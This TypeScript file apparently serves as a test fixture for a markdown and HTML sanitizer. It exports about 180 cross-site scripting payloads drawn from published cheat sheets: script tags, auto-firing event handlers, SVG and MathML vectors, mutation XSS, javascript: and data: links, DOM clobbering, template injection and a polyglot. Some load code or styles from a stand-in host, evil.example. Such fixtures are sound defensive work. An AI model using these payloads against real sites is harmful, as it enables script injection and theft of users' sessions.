/**
 * Texts by which people have tried to run a script in somebody else's browser. Written after the published collections, by
 * their categories:
 *
 * - OWASP, "XSS Filter Evasion Cheat Sheet" (tags, attributes, encodings, broken markup)
 * - OWASP, "DOM based XSS Prevention Cheat Sheet" (names of globals, clobbering)
 * - PortSwigger, "Cross-site scripting cheat sheet" (events without interaction, SVG, MathML, custom elements)
 * - cure53, the test cases of DOMPurify, and Heiderich et al., "mXSS Attacks" (2013): markup that means something else once
 *   it is written out and parsed again
 * - CommonMark's and markdown-it's notes on security: links, autolinks, reference definitions, titles, nested brackets
 * - Unicode Technical Report 36 (look-alikes, bidirectional overrides, invisible letters)
 *
 * Each calls `alert`, `pwned` or a host that is not ours; `tests/e2e/evasions.e2e.ts` listens for all three.
 */
export const EVASIONS: readonly string[] = [
	// Script elements, whole and broken.
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
	'"><script>pwned()</script>',
	"'-alert(1)-'",
	'</script><script>alert(1)</script>',
	'<scr<script>ipt>alert(1)</scr</script>ipt>',
	'<<SCRIPT>alert(1);//\\<</SCRIPT>',
	'<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
	'<script\u0000>alert(1)</script>',
	'</title><script>alert(1)</script>',
	'</textarea><script>alert(1)</script>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<script type="importmap">{"imports":{"/":"https://evil.example/"}}</script>',

	// Events that need nobody's hand.
	'<img src=x onerror=alert(1)>',
	'<img src="x` `<script>alert(1)</script>"` `>',
	'<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
	'<img/src=x/onerror=alert(1)>',
	'<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
	'<body onload=alert(1)>',
	'<input autofocus onfocus=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<video><source onerror=alert(1)></video>',
	'<audio src=x onerror=alert(1)>',
	'<marquee onstart=alert(1)>',
	'<select autofocus onfocus=pwned()>',
	'<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)"></b>',
	'<div popover id=x onbeforetoggle=alert(1)>',
	'<xss contenteditable autofocus onfocus=alert(1)>',
	'<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>',

	// Frames, objects, forms, meta, base.
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
	'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
	'<embed src="https://evil.example/x.swf">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
	'<base href="https://evil.example/">',
	'<form action="javascript:alert(1)"><button>x</button></form>',
	'<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>',
	'<link rel=stylesheet href="https://evil.example/x.css">',
	'<style>@import"https://evil.example/x.css";</style>',
	'<div style="background:url(https://evil.example/x.png)">',
	'<template shadowrootmode=open><script>alert(1)</script></template>',

	// SVG and MathML.
	'<svg onload=alert(1)>',
	'<svg/onload=alert(1)//',
	'<svg><script>alert&#40;1&#41;</script></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
	'<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
	'<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
	'<svg><set attributeName=href to=javascript:alert(1)>',
	'<math href="javascript:alert(1)">x</math>',
	'<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',

	// Markup that changes when it is written out and parsed again.
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
	'<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
	'<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
	'<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
	'<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
	'<!--><img src=x onerror=alert(1)>-->',
	'<![CDATA[><img src=x onerror=alert(1)>]]>',
	'<?xml version="1.0"?><img src=x onerror=alert(1)>',
	'<img alt="`><img src=x onerror=alert(1)>">',

	// Names that the page itself uses.
	'<form id=document><input name=cookie></form>',
	'<a id=location href=javascript:alert(1)>x</a>',
	'<img name=getElementById>',
	'__proto__',
	'constructor',

	// Links.
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x]( javascript:alert(1))',
	'[x](java\tscript:alert(1))',
	'[x](<javascript:alert(1)>)',
	'[x](<java\nscript:alert(1)>)',
	'[x](javascript&colon;alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))',
	'[x](\\j\\avascript:alert(1))',
	'[x](%6aavascript:alert(1))',
	'[x](javascript%3Aalert(1))',
	'[x](\u0001javascript:alert(1))',
	'[x](java\u0000script:alert(1))',
	'[x](java\u200bscript:alert(1))',
	'[x](javascript://example.org/%0Aalert(1))',
	'[x](vbscript:msgbox(1))',
	'[x](data:text/html,<script>alert(1)</script>)',
	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'[x](blob:https://evil.example/1)',
	'[x](file:///etc/passwd)',
	'[x](//evil.example/x)',
	'[x](\\\\evil.example\\x)',
	'[x](/api/v1/auth/logout)',
	'[x](?x)',
	'[x](#x)',
	'[x](view-source:javascript:alert(1))',
	'[x](feed:javascript:alert(1))',
	'[x](https:javascript:alert(1))',
	'[x](https://example.org/"onmouseover="alert(1))',
	"[x](https://example.org/'onmouseover='alert(1))",
	'[x](https://example.org "onmouseover=alert(1) y=")',
	"[x](https://example.org '\"><img src=x onerror=alert(1)>')",
	'[x](https://example.org (\\"><script>alert(1)</script>))',
	'[x](mailto:a@b.c?body=<script>alert(1)</script>)',
	'[<img src=x onerror=alert(1)>](https://example.org)',
	'[`<script>alert(1)</script>`](https://example.org)',
	'[a](https://example.org)[b](javascript:alert(1))',
	'[a [b](javascript:alert(1)) c](https://example.org)',
	'[[[[x](javascript:alert(1))](javascript:alert(1))](javascript:alert(1))]',
	'[x\\](javascript:alert(1))',
	'[x]\n(javascript:alert(1))',

	// Pictures.
	'![x](javascript:alert(1))',
	'![x](https://evil.example/pixel.png)',
	'![x"onerror="alert(1)](https://evil.example/x.png)',
	'![x](https://evil.example/x.png"onerror="alert(1))',
	'[![x](https://evil.example/x.png)](javascript:alert(1))',

	// Autolinks and addresses that stand bare.
	'<javascript:alert(1)>',
	'<JAVASCRIPT:alert(1)>',
	'<data:text/html,<script>alert(1)</script>>',
	'<https://example.org/"onmouseover="alert(1)>',
	'<https://example.org/><script>alert(1)</script>',
	'<a@b.c"onclick=alert(1)>',
	'javascript:alert(1)',
	'https://example.org/"onmouseover="alert(1)',
	"https://example.org/'onmouseover='alert(1)",
	'https://example.org/<script>alert(1)</script>',
	'https://javascript:alert(1)@example.org',
	'http://[::1]<img src=x onerror=alert(1)>',
	'https://exаmple.org/ https://xn--exmple-4nf.org/',

	// Reference definitions.
	'[x]: javascript:alert(1)\n[x]',
	'[x][y]\n\n[y]: javascript:alert(1) "x"',
	'[x]: <data:text/html,<script>alert(1)</script>>\n[x]',
	'[__proto__]: javascript:alert(1)\n[__proto__]',
	'[x]: https://example.org "\\"onmouseover=alert(1)"\n[x]',

	// Code, fences and what stands behind them.
	'```"><script>alert(1)</script>\nx\n```',
	'```js" onmouseover="alert(1)\nx\n```',
	'```html\n<img src=x onerror=alert(1)>\n```',
	'```xml\n<svg><style></span><img src=x onerror=alert(1)></style></svg>\n```',
	'`<img src=x onerror=alert(1)>`',
	'``</code><script>alert(1)</script>``',
	'~~~&quot;onmouseover=alert(1)\nx\n~~~',

	// Lists, tasks and quotes around markup.
	'- [x] <img src=x onerror=alert(1)>',
	'- [x](javascript:alert(1))',
	'> <iframe src=javascript:alert(1)>',
	'1. <svg onload=alert(1)>',
	'99999999999999999999. x',
	'**<b onmouseover=alert(1)>**',

	// Names.
	'@anna"onmouseover="alert(1)',
	'@anna<img src=x onerror=alert(1)>',
	'@__proto__ @constructor @tostring',

	// Entities and other alphabets.
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;img src=x onerror=alert(1)&#62;',
	'&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
	'&amp;lt;script&amp;gt;alert(1)',
	'\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
	'%3Cscript%3Ealert(1)%3C/script%3E',
	'+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
	'＜script＞alert(1)＜/script＞',
	'‹img src=x onerror=alert(1)›',
	'\u202e>tpircs/<)1(trela>tpircs<',
	'<ſcript>alert(1)</ſcript>',
	'<ıframe src=javascript:alert(1)>',
	'<img src=x onerror=\u2028alert(1)>',
	'\ufeff<script>alert(1)</script>',

	// Templates of other programs.
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}',
	'{@html "<img src=x onerror=alert(1)>"}',
	'<%= alert(1) %>',
	'[[${alert(1)}]]',

	// One for every place at once.
	'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e'
];
